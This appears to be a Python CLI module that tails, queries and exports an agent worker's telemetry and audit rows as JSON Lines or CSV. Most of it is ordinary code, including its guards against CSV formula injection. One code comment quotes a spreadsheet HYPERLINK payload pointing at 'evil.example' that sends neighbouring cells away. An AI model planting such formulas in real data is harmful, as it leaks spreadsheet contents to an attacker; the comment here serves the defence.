"""`agentworker telemetry tail | query | export` and `agentworker audit …`: the
invocation rows and audit events of this machine's worker, for people.

Only argparse is imported at the top (`--help` stays light); `run` imports the rest.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, TextIO

if TYPE_CHECKING:
    from worker.config import Paths
    from worker.core.telemetry_query import Table

EXIT_OK: Final = 0
PREVIEW_CHARS: Final = 60


def add_parsers(sub: argparse._SubParsersAction[argparse.ArgumentParser]) -> None:
    for noun, what in (("telemetry", "invocation rows"), ("audit", "audit events")):
        group = sub.add_parser(
            noun,
            help=f"read this machine's {what}: tail, query, export",
            description=f"The worker's {what} (in state.db beside the ledger), filtered. "
            "Times: 15m, 2h, 7d (ago) or ISO 8601 such as 2026-11-23T10:00.",
        )
        group.set_defaults(handler=run)
        verbs = group.add_subparsers(dest="verb", required=True, metavar="VERB")
        tail = verbs.add_parser("tail", help=f"the newest {what}; -f follows new ones")
        tail.add_argument("-n", "--lines", type=int, default=10, help="how many (default 10)")
        tail.add_argument("-f", "--follow", action="store_true", help="wait for new ones")
        tail.add_argument("--json", action="store_true", help="JSON Lines, one per row")
        query = verbs.add_parser("query", help=f"{what} matching the filters, oldest first")
        query.add_argument(
            "--limit", type=int, default=100, help="the newest this many (default 100; 0: all)"
        )
        query.add_argument("--json", action="store_true", help="JSON Lines, one per row")
        export = verbs.add_parser("export", help=f"every matching {what[:-1]} to a file")
        export.add_argument(
            "--format",
            choices=("jsonl", "csv"),
            default="jsonl",
            help="jsonl (default) or csv; in csv a text starting with = + - @ gets a ' "
            "before it, so a spreadsheet shows it as text, never runs it as a formula",
        )
        export.add_argument("-o", "--output", type=Path, help="the file (default: stdout)")
        for verb in (tail, query, export):
            _filters(verb, audit=noun == "audit")


def _filters(p: argparse.ArgumentParser, *, audit: bool) -> None:
    f = p.add_argument_group("filters")
    f.add_argument("--plan", help="plan id")
    f.add_argument("--agent", help="agent id")
    f.add_argument("--action", help="fs_stat (any surface) or surface.action")
    f.add_argument("--correlation", help="correlation id")
    if audit:
        f.add_argument("--kind", help="event kind: kill, scope_required, path_not_allowed, …")
    else:
        f.add_argument("--status", choices=("ok", "error"))
        f.add_argument("--error-code", help="e.g. scope_required, not_found")
    f.add_argument(
        "--server-key",
        metavar="KEY",
        help="the server that sent the call (audit: the one served), by its key as "
        "`record` and the worker's log show it; `unrecorded`: rows from before rows "
        "kept their server",
    )
    f.add_argument("--since", help="from this time on")
    f.add_argument("--until", help="before this time")


def run(paths: Paths, args: argparse.Namespace) -> int:
    import os

    try:
        return _run(paths, args)
    except BrokenPipeError:  # `… | head` stopped reading: not an error
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return EXIT_OK


def _run(paths: Paths, args: argparse.Namespace) -> int:
    from worker.core import telemetry_query as tq

    table = tq.AUDIT if args.command == "audit" else tq.INVOCATIONS
    filters = tq.Filters(
        plan=args.plan,
        agent=args.agent,
        action=args.action,
        correlation_id=args.correlation,
        status=getattr(args, "status", None),
        error_code=getattr(args, "error_code", None),
        kind=getattr(args, "kind", None),
        server=args.server_key,
        since_ms=tq.moment_ms(args.since) if args.since else None,
        until_ms=tq.moment_ms(args.until) if args.until else None,
    )
    db_path = paths.data_dir / "state.db"
    with tq.reading(db_path) as conn:
        if not conn.execute(
            "SELECT 1 FROM sqlite_master WHERE type = 'table' AND name = ?", (table.name,)
        ).fetchone():
            print(f"no {args.command} rows yet in {db_path}", file=sys.stderr)
            return EXIT_OK
        if args.verb == "export":
            rows = [row for _, row in tq.select_rows(conn, table, filters)]
            if args.output is None:
                _export(rows, table, args.format, sys.stdout)
            else:
                from worker.cli._written_beside import replacing

                # Never through a link the agent may have planted (review25 G4).
                with replacing(args.output) as out:
                    _export(rows, table, args.format, out)
                print(f"{len(rows)} rows written to {args.output}", file=sys.stderr)
            return EXIT_OK
        last = args.lines if args.verb == "tail" else (args.limit or None)
        found = tq.select_rows(conn, table, filters, last=last)
        printer = _Printer(table, args.json)
        for _, row in found:
            printer.row(row)
        if args.verb == "tail" and args.follow:
            after = found[-1][0] if found else tq.newest_rowid(conn, table)
            for row in tq.follow(conn, table, filters, db_path, after):
                printer.row(row)
        elif not found and not args.json:
            print(f"no {args.command} rows match", file=sys.stderr)
    return EXIT_OK


def _export(rows: list[dict[str, Any]], table: Table, form: str, out: TextIO) -> None:
    import csv
    import json

    from worker.cli._common import json_shown, shown

    if form == "jsonl":
        for row in rows:
            out.write(json_shown(row) + "\n")
        return
    columns = [c if c != "detail_json" else "detail" for c in table.columns]
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    # CSV has no escapes: to a file the cells are the data, to a terminal they are shown.
    on_terminal = out.isatty()
    for row in rows:
        cells = {k: (str(v).lower() if isinstance(v, bool) else v) for k, v in row.items()}
        if "detail" in cells:
            cells["detail"] = json.dumps(cells["detail"], sort_keys=True)
        if on_terminal:
            cells = {k: shown(v) if isinstance(v, str) else v for k, v in cells.items()}
        writer.writerow({k: _as_text(v) if isinstance(v, str) else v for k, v in cells.items()})


# What a spreadsheet reads as a formula at a cell's start (a plan id such as
# =HYPERLINK("https://evil.example/?d="&A2, "details") sent the rows beside it away):
# such a text gets a ' before it, which spreadsheets show as text (review25 G13).
# Spaces, line breaks and tabs before one count too: an import that trims cells (an
# option in LibreOffice's and Excel's) leaves the formula's own start; so do the
# full-width forms, which some locales' input turns into the ASCII ones.
_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _as_text(cell: str) -> str:
    if cell.startswith(("\t", "\r")) or cell.lstrip().startswith(_FORMULA_STARTS):
        return "'" + cell
    return cell


def _when(unix_ms: int) -> str:
    from datetime import datetime

    return datetime.fromtimestamp(unix_ms / 1000).astimezone().isoformat(timespec="seconds")


class _Printer:
    """Rows as a person reads them (one line each), or as JSON Lines."""

    def __init__(self, table: Table, as_json: bool) -> None:
        self.audit = table.name == "audit_events"
        self.as_json = as_json

    def row(self, row: dict[str, Any]) -> None:
        """Ids, names, previews and details are the server's and the agent's: shown
        (worker.cli._common.shown), never printed raw to the terminal."""
        from worker.cli._common import json_shown, shown

        if self.as_json:
            print(json_shown(row), flush=True)
            return
        if self.audit:
            detail = json_shown(row["detail"], sort_keys=True)
            cells = [
                _when(row["unix_ms"]),
                shown(row["kind"]).ljust(18),
                f"plan={shown(row['plan_id']) or '-'}",
                f"agent={shown(row['agent_id']) or '-'}",
                shown(detail[:100]),
            ]
        else:
            outcome = row["status"] + (f" {row['error_code']}" if row["error_code"] else "")
            preview = shown(row["args_preview"])
            if len(preview) > PREVIEW_CHARS:
                preview = preview[: PREVIEW_CHARS - 1] + "…"
            cells = [
                _when(row["started_unix_ms"]),
                shown(f"{row['surface']}.{row['action']}").ljust(22),
                shown(outcome).ljust(22),
                f"{row['duration_ms']:>6} ms",
                f"plan={shown(row['plan_id']) or '-'}",
                f"agent={shown(row['agent_id']) or '-'}",
                preview,
            ]
        print("  ".join(cells), flush=True)
